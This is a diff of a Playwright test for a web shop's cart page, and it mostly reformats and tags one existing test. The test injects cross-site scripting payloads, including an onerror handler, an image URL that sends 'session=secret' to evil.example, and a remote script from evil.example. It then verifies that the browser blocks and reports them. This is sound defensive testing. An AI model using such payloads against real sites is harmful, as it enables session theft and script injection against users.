@@ -150,30 +150,34 @@ test(
   },
 );
 
-test('an injected script does not run, and the shop is told', async ({ page, shop }) => {
-  const store = shop.addresses.stores.us!;
-  await page.goto(`${store}/cart`);
-  await hydrated(page);
-  const before = shop.logs().length;
-  await page.evaluate(() => {
-    document.body.insertAdjacentHTML(
-      'beforeend',
-      '<img src="/none.png" onerror="window.stolen = 1">' +
-        '<img src="https://evil.example/x.png?session=secret">',
-    );
-    document.write(
-      '<script>window.stolen = 2</script><script src="https://evil.example/x.js"></script>',
-    );
-  });
-  await expect
-    .poll(() => shop.logs().slice(before), { timeout: 30_000 })
-    .toContain('"browser-reports"');
-  await expect
-    .poll(() => shop.logs().slice(before), { timeout: 30_000 })
-    .toContain('"blocked":"https://evil.example"');
-  expect(await page.evaluate(() => Object(window).stolen)).toBeUndefined();
-  expect(shop.logs().slice(before)).not.toContain('session=secret');
-});
+test(
+  'an injected script does not run, and the shop is told',
+  { tag: '@full' },
+  async ({ page, shop }) => {
+    const store = shop.addresses.stores.us!;
+    await page.goto(`${store}/cart`);
+    await hydrated(page);
+    const before = shop.logs().length;
+    await page.evaluate(() => {
+      document.body.insertAdjacentHTML(
+        'beforeend',
+        '<img src="/none.png" onerror="window.stolen = 1">' +
+          '<img src="https://evil.example/x.png?session=secret">',
+      );
+      document.write(
+        '<script>window.stolen = 2</script><script src="https://evil.example/x.js"></script>',
+      );
+    });
+    await expect
+      .poll(() => shop.logs().slice(before), { timeout: 30_000 })
+      .toContain('"browser-reports"');
+    await expect
+      .poll(() => shop.logs().slice(before), { timeout: 30_000 })
+      .toContain('"blocked":"https://evil.example"');
+    expect(await page.evaluate(() => Object(window).stolen)).toBeUndefined();
+    expect(shop.logs().slice(before)).not.toContain('session=secret');
+  },
+);
 
 async function standIn(page: Page, shop: Shop): Promise<string[]> {
   const asked: string[] = [];
